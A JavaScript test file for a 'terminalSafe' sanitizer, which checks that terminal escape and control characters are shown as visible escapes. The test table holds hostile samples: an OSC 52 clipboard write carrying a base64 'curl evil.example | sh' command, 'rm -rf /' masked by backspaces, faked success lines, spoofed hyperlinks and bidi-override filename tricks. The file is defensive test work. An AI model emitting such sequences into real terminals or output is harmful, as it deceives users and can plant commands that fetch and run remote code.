import { terminalSafe } from '../../../../adapters/shell/terminal-safe.js';

/** No byte a terminal would act on: C0 other than \n and \t, DEL, C1, bidi overrides and isolates. */
// eslint-disable-next-line no-control-regex -- the test looks for control characters
const anyControl = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('terminalSafe', () => {
  test.each([
    ['clear screen (CSI 2J) and cursor home', 'title\u001b[2J\u001b[H', 'title\\x1b[2J\\x1b[H'],
    ['colours', '\u001b[31mred\u001b[0m', '\\x1b[31mred\\x1b[0m'],
    ['OSC 8 hyperlink ending in BEL', '\u001b]8;;https://evil.example/\u0007click me\u001b]8;;\u0007', '\\x1b]8;;https://evil.example/\\x07click me\\x1b]8;;\\x07'],
    ['OSC 8 hyperlink ending in ST (ESC \\)', '\u001b]8;;https://evil.example/\u001b\\here\u001b]8;;\u001b\\', '\\x1b]8;;https://evil.example/\\x1b\\here\\x1b]8;;\\x1b\\'],
    ['OSC 52 clipboard write', '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007', '\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07'],
    ['window title (OSC 0)', '\u001b]0;pwned\u0007', '\\x1b]0;pwned\\x07'],
    ['BEL alone', 'ding\u0007', 'ding\\x07'],
    ['CR overwrite: a fake "succeeded" over the real line', 'deploy failed\rdeploy succeeded', 'deploy failed\\x0ddeploy succeeded'],
    ['backspaces erasing what came before', 'rm -rf /\b\b\b\b\b\b\b\bls', 'rm -rf /\\x08\\x08\\x08\\x08\\x08\\x08\\x08\\x08ls'],
    ['C1 CSI (one character) clearing the screen', 'x\u009b2Jy', 'x\\x9b2Jy'],
    ['C1 OSC and ST', '\u009d0;title\u009c', '\\x9d0;title\\x9c'],
    ['NUL, vertical tab, form feed, DEL', 'a\u0000b\u000bc\u000cd\u007fe', 'a\\x00b\\x0bc\\x0cd\\x7fe'],
    ['bidi override (Trojan Source)', 'ok \u202egnp.exe\u202c', 'ok \\u202egnp.exe\\u202c'],
    ['bidi isolate', '\u2066admin\u2069', '\\u2066admin\\u2069'],
  ])('%s', (_name, hostile, shown) => {
    const safe = terminalSafe(hostile);
    expect(safe).toBe(shown);
    expect(safe).not.toMatch(anyControl);
  });

  test('a multi-line text keeps its newlines and tabs; a Windows line end is a newline', () => {
    expect(terminalSafe('line one\n\tindented\r\nline three\n')).toBe('line one\n\tindented\nline three\n');
  });

  test('plain text, Unicode and backslashes are untouched', () => {
    const plain = 'Deployment #3 web/1.4.0 to staging — succeeded in 2s · 日本語 · C:\\deploy\\x1b.txt · 🚀';
    expect(terminalSafe(plain)).toBe(plain);
  });

  test('every control character is shown, none survives', () => {
    let all = '';
    for (let c = 0; c <= 0xa0; c++) all += String.fromCharCode(c);
    const safe = terminalSafe(all);
    expect(safe.replace(/[\n\t]/g, '')).not.toMatch(anyControl);
    expect(safe).toContain('\n');
    expect(safe).toContain('\t');
    expect(safe).toContain('\\x1b');
    expect(safe).toContain('\\x9f');
  });
});
